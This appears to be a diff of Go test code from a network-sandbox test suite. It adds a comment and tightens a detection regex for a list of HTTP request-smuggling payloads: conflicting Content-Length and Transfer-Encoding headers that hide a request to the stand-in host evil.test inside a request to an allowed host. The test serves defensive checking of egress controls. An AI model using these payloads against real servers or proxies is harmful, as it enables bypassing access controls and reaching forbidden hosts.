@@ -68,11 +68,12 @@ $PROBE send tls:evil.test $n.allowed.test:443 'GET / HTTP/1.1\r\nHost: api.allow
 	}
 }
 
-// framingAttacks hide a request for another host in what two programs could read differently.
+// framingAttacks hide a request for another host in what two programs could read differently. As a body, the text may
+// pass: what counts is whether a server takes it for a request.
 func framingAttacks() []netAttack {
 	const smuggled = `GET /smuggled HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`
 	head := func(lines string) string { return `POST / HTTP/1.1\r\nHost: api.allowed.test\r\n` + lines + `\r\n` }
-	return []netAttack{{id: "request-smuggling", flags: allowing("api.allowed.test"), won: "smuggled|evil", works: "$GET -d x http://api.allowed.test/ https://api.allowed.test/ | grep -c WORLD | grep 2 && echo WORKS",
+	return []netAttack{{id: "request-smuggling", flags: allowing("api.allowed.test"), won: `^request .*(smuggled|host=evil)`, works: "$GET -d x http://api.allowed.test/ https://api.allowed.test/ | grep -c WORLD | grep 2 && echo WORKS",
 		script: both("api.allowed.test",
 			head(`Content-Length: 0\r\nContent-Length: 70\r\n`)+smuggled, head(`Content-Length: 0\r\nTransfer-Encoding: chunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked\r\nContent-Length: 4\r\n`)+`0\r\n\r\n`+smuggled,
 			head(`Transfer-Encoding : chunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: xchunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked, identity\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding:\tchunked\r\n`)+`0\r\n\r\n`+smuggled,
